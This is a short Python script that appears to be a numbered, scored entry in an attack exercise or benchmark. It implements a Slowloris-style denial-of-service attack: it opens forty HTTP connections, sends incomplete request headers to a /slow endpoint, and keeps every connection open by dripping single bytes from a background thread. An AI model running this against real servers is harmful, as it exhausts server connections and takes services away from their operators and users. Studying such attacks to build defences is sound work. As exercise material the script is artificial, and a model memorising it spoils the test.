# attack: 27
# does: opens forty connections that say a byte now and then, then works
# run: finished
# earns: 10
# with: work
# with: http
import threading
import time

lines = [line() for _ in range(40)]
for one in lines:
    one.sendall(b"GET /slow HTTP/1.1\r\nX-A: ")


def drip():
    while True:
        for one in lines:
            try:
                one.sendall(b"a")
            except OSError:
                pass
        time.sleep(0.2)


threading.Thread(target=drip, daemon=True).start()
work()
